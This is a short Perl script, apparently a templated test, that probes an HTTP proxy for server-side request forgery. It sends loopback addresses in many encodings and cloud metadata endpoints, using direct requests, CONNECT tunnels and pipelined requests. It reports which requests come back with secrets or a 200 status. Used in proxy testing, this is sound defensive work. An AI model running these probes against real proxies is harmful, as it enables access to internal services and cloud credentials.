# Asks its proxy for what only the host may reach, in every way to write an address, and twice over one connection.
use strict; use warnings; use IO::Socket::INET;
my ($proxy) = $ENV{http_proxy} =~ m{^http://([^/]+)} or die 'no proxy';
my @places = (qw({{ADDRESSES}}), map { "$_:{{PORT}}" } qw(localhost a.localhost 127.0.0.1 127.1 2130706433 0x7f.0.0.1 0 0.0.0.0 169.254.169.254 100.100.100.200 [::1] [::] [::ffff:127.0.0.1] [fe80::1] [fd00:ec2::254]));
for my $place (@places) {
    for my $ask ("GET http://$place/ HTTP/1.1\r\nHost: $place\r\n\r\n", "CONNECT $place HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n", "GET http://192.0.2.1/ HTTP/1.1\r\n\r\nGET http://$place/ HTTP/1.1\r\nHost: $place\r\n\r\n") {
        next if $ask =~ /192\.0\.2\.1/ && $place ne $places[0];
        my $socket = IO::Socket::INET->new(PeerAddr => $proxy, Timeout => 5) or die "no proxy: $!";
        print $socket $ask;
        local $SIG{ALRM} = sub { die "timeout\n" };
        my $said = eval { alarm 30; local $/; my $text = <$socket>; alarm 0; $text } // '';
        alarm 0;
        my ($status) = $said =~ m{^HTTP/1.1 (\d+)};
        print $said =~ /secret-/ || ($status // '') eq '200' ? "gained: $place\n" : 'refused: ' . ($status // 'nothing') . " $place\n";
    }
}
exit 9;
